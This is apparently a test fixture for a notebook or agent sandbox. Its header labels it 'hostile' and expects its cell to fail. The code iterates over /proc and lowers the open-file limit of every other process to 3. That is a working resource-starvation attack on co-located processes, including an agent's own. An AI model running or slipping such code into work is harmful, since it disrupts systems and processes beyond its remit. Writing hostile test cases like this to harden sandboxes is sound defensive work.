# /// hostile
# about = "A cell takes files, memory and time from the agent by lowering its limits."
# score = 1.0
# causes = {}
# cells = { "1" = "failed" }
# ///
# %%
import os
import resource

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) not in (1, os.getpid()):
        resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (3, 3))
